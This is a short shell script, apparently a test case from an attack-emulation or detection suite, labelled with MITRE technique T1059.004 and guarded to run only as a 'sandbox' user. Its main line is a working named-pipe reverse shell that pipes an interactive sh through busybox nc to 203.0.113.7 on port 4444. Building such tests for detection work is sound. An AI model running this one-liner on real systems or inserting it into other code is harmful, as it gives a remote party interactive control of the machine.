#!/bin/sh
# technique: T1059.004
# needs: busybox
# net: sink
# options: --timeout 12s
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 3 busybox nc 203.0.113.7 4444 > f; kill $(jobs -p) 2>/dev/null
